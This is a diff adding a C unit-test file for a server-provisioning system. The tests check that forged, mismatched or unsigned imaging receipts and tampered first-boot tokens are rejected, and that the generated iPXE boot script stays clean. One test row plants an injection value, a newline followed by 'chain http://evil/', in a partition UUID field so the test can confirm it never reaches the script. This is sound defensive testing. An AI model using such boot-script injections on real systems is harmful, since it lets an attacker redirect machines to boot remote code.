@@ -1,0 +1,194 @@
+/* SPDX-License-Identifier: Apache-2.0 */
+/*
+ * What is believed after the last byte: receipts signed by the agent that wrote, and the first boot
+ * of the installed system; and what a receipt's words may do to the next boot.
+ */
+#include "tests/harness/check.h"
+
+#include <base/json.h>
+#include <base/str.h>
+#include <proto/receipt.h>
+#include "tests/harness/host_walk.h"
+
+/* A step that says it is done without a receipt is not believed. */
+static void test_no_receipt(void **state)
+{
+	struct fake_agent a;
+	struct server_bench *b = *state;
+	walk_to_writing(b, &a, "S1", MAC_A);
+	need(fake_agent_step_done(&a, "ok"), 200, &a, "done");
+	need_state(b, &a, "failed");
+	fake_agent_done(&a);
+}
+
+static json_t *report_of(struct fake_agent *a)
+{
+	return json_pack("{s:s}", "manifest_sha256", a->plan.image.image_digest);
+}
+
+static json_t *by_another_key(struct fake_agent *a)
+{
+	struct fake_agent other;
+	fake_agent_boot(&other, a->socket, "S2", MAC_B);
+	struct fake_agent mixed = *a;
+	memcpy(mixed.key_path, other.key_path, sizeof(mixed.key_path));
+	json_t *envelope = fake_agent_seal(&mixed, report_of(a));
+	fake_agent_done(&other);
+	return envelope;
+}
+
+static json_t *with_another_payload(struct fake_agent *a)
+{
+	json_t *envelope = fake_agent_seal(a, report_of(a));
+	AUTO(json) json_t *other = fake_agent_seal(a, json_object());
+	json_object_set(envelope, "payload", json_object_get(other, "payload"));
+	return envelope;
+}
+
+static json_t *with_another_type(struct fake_agent *a)
+{
+	json_t *envelope = fake_agent_seal(a, report_of(a));
+	json_object_set_new(envelope, "payload_type", json_string(PLAN_PAYLOAD_TYPE));
+	return envelope;
+}
+
+static json_t *of_another_host(struct fake_agent *a)
+{
+	struct fake_agent mixed = *a;
+	(void)str_copy(mixed.host_id, sizeof(mixed.host_id), mixed.session_id);
+	return fake_agent_seal(&mixed, report_of(a));
+}
+
+static json_t *of_another_arm(struct fake_agent *a)
+{
+	struct fake_agent mixed = *a;
+	(void)str_copy(mixed.plan.image.arm_id, sizeof(mixed.plan.image.arm_id), "none");
+	return fake_agent_seal(&mixed, report_of(a));
+}
+
+static json_t *of_another_image(struct fake_agent *a)
+{
+	return fake_agent_seal(a, json_pack("{s:s}", "manifest_sha256", a->key_id));
+}
+
+/* Not believed, although the session's own connection brought it: written down, and the host fails.
+ */
+static void test_bad_receipts(void **state)
+{
+	static const struct {
+		const char *name;
+		json_t *(*make)(struct fake_agent *a);
+		const char *code;
+	} rows[] = {
+		{"not signed", report_of, "input.field.missing"},
+		{"signed by another key", by_another_key, "receipt.key"},
+		{"another payload", with_another_payload, "receipt.signature"},
+		{"another type", with_another_type, "receipt.type"},
+		{"of another host", of_another_host, "receipt.binding"},
+		{"of another arm", of_another_arm, "receipt.binding"},
+		{"of another image", of_another_image, "image.other"},
+	};
+	struct server_bench *b = *state;
+	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
+		struct fake_agent a;
+		walk_to_writing(b, &a, "S1", MAC_A);
+		need(fake_agent_event(&a, "receipt", rows[i].make(&a)), 200, &a, rows[i].name);
+		CHECK_STR(rows[i].name, server_bench_state(b, a.host_id), "failed");
+		CHECK_INT(rows[i].name, server_bench_number(b, "SELECT count(*) FROM receipt"), 0);
+		autofree char *sql = xasprintf("SELECT count(*) FROM event WHERE kind = "
+					       "'agent.refused' AND detail LIKE '%%\"%s\"%%'",
+					       rows[i].code);
+		CHECK_INT(rows[i].name, server_bench_number(b, sql), 1);
+		need(fake_agent_step_done(&a, "ok"), 200, &a, "done");
+		CHECK_STR(rows[i].name, server_bench_state(b, a.host_id), "failed");
+		fake_agent_done(&a);
+		walk_renew(b, profile_auto);
+	}
+}
+
+/* Whoever holds the fingerprint checks the envelope that the API gives out, without the server. */
+static void test_receipts_can_be_checked_by_others(void **state)
+{
+	struct fake_agent a;
+	autoreceipt struct receipt r = {0};
+	struct err err = ERR_INIT;
+	char key[SHA256_HEX_BYTES];
+	struct server_bench *b = *state;
+	walk_to_writing(b, &a, "S1", MAC_A);
+	walk_finish_image(b, &a);
+	autofree char *path = xasprintf("/api/v1/hosts/%s/receipts", a.host_id);
+	assert_int_equal(server_bench_admin(b, "GET", path, NULL), 200);
+	json_t *row = json_array_get(json_object_get(b->reply, "items"), 0);
+	json_t *signature = json_object_get(row, "signature");
+	assert_string_equal(json_string_value(json_object_get(row, "work")), "image");
+	assert_string_equal(json_string_value(json_object_get(signature, "key_sha256")), a.key_id);
+	if (receipt_open(json_object_get(signature, "envelope"), a.key_id, &r, key, &err) < 0)
+		fail_msg("%s", err.msg);
+	assert_true(json_equal(r.report, json_object_get(row, "receipt")));
+	assert_int_equal(
+		receipt_check(&r, a.host_id, a.session_id, a.plan.image.arm_id, "image", &err), 0);
+	fake_agent_done(&a);
+}
+
+static void test_tampered_first_boot(void **state)
+{
+	struct fake_agent a;
+	char token[SHA256_HEX_BYTES];
+	struct server_bench *b = *state;
+	walk_to_image(b, &a, "S1", MAC_A);
+	(void)str_copy(token, sizeof(token), a.plan.image.first_boot_token);
+	need(fake_agent_permit(&a, NULL), 200, &a, "permit");
+	walk_finish_image(b, &a);
+	token[0] = token[0] == '0' ? '1' : '0';
+	need(fake_agent_first_boot(&a, token, a.plan.image.image_digest), 403, &a, "wrong token");
+	assert_string_equal(a.code, "first_boot.token");
+	need_state(b, &a, "verifying");
+	fake_agent_done(&a);
+}
+
+/* A host is sent to the loader that was written for it; a receipt's words never get into a script.
+ */
+static void test_boots_what_was_written(void **state)
+{
+	static const struct {
+		const char *name, *role, *uuid;
+		bool named;
+	} rows[] = {
+		{"the EFI system partition", "esp", "5d0f7a10-3c1e-4b57-9a41-51a7b1050101", true},
+		{"another partition", "root", "5d0f7a10-3c1e-4b57-9a41-51a7b1050101", false},
+		{"no UUID", "esp", "", false},
+		{"a script", "esp", "x\nchain http://evil/", false},
+	};
+	struct server_bench *b = *state;
+	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
+		struct fake_agent a;
+		walk_to_writing(b, &a, "S1", MAC_A);
+		json_t *receipt = json_pack("{s:s, s:[{s:s, s:s}]}", "manifest_sha256",
+					    a.plan.image.image_digest, "partitions", "role",
+					    rows[i].role, "part_uuid", rows[i].uuid);
+		need(fake_agent_receipt_of(&a, receipt), 200, &a, "receipt");
+		need(fake_agent_step_done(&a, "ok"), 200, &a, "imaged");
+		autofree char *script = walk_boot_script(b, a.mac);
+		CHECK(rows[i].name, strstr(script, "sanboot --no-describe --drive 0 --filename"));
+		CHECK_INT(rows[i].name,
+			  strstr(script, "--uuid 5d0f7a10-3c1e-4b57-9a41-51a7b1050101 ") != NULL,
+			  rows[i].named);
+		CHECK(rows[i].name, !strstr(script, "evil"));
+		fake_agent_done(&a);
+		walk_renew(b, profile_auto);
+	}
+}
+
+int main(void)
+{
+#define T(name) cmocka_unit_test_setup_teardown(name, walk_setup_auto, walk_teardown)
+	const struct CMUnitTest tests[] = {
+		T(test_no_receipt),
+		T(test_bad_receipts),
+		T(test_receipts_can_be_checked_by_others),
+		T(test_tampered_first_boot),
+		T(test_boots_what_was_written),
+	};
+	cmocka_set_message_output(CM_OUTPUT_TAP);
+	return cmocka_run_group_tests_name("receipts", tests, NULL, NULL);
+}
